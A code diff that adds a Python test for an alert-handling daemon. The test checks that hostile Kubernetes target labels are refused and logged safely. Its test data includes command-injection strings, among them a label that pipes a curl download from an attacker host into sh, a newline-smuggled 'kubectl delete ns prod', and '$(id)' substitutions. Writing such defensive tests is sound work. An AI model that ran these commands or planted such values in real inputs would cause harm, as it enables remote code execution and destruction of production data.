@@ -318,3 +318,41 @@ async def test_non_finite_figures_never_reach_the_json_the_daemon_writes(
     assert reply["metrics"]["p95_ms"] is None and reply["metrics"]["error_rate"] == 0.0
     for text in texts:
         assert "NaN" not in text and "Infinity" not in text
+
+
+# --- 12: hostile target labels ----------------------------------------------------------
+
+
+async def test_hostile_target_labels_are_refused_in_one_log_line_each(
+        make_daemon: MakeDaemon, caplog: pytest.LogCaptureFixture) -> None:
+    """
+    Field report 12, with execution on: no hostile label reaches the executor.
+
+    Each refusal is logged as one line naming the bad value (escaped, so the
+    newline in the namespace cannot forge a second log line), and the
+    hostile summary annotation is never copied anywhere.
+    """
+    executor = RecordingExecutor()
+    daemon = await make_daemon(raw=custom("HighLatencyP99", "scale", replicas=5),
+                               executor=executor, **EXECUTING)
+    hostile = [
+        {"namespace": "shop", "deployment": "checkout'; curl -s http://attacker.invalid/x | sh"},
+        {"namespace": "shop", "deployment": "$(touch PWNED)"},
+        {"namespace": "shop\nkubectl delete ns prod", "deployment": "checkout"},
+        {"namespace": "shop", "deployment": "Checkout_Service"},
+    ]
+    summary = "`id` and $(id) and '\"quotes\""
+    alerts = [alert("HighLatencyP99", annotations={"summary": summary}, **labels)
+              for labels in hostile]
+
+    with caplog.at_level(logging.INFO):
+        status, _ = await daemon.post(notification(*alerts))
+        await daemon.settle()
+
+    refusals = [r for r in caplog.records if "invalid_target" in r.getMessage()]
+    lines = rendered(refusals).splitlines()
+    assert status == 200
+    assert executor.actions == []
+    assert len(lines) == len(hostile)
+    assert all("is not a valid name" in line for line in lines)
+    assert "$(id)" not in rendered(caplog.records)
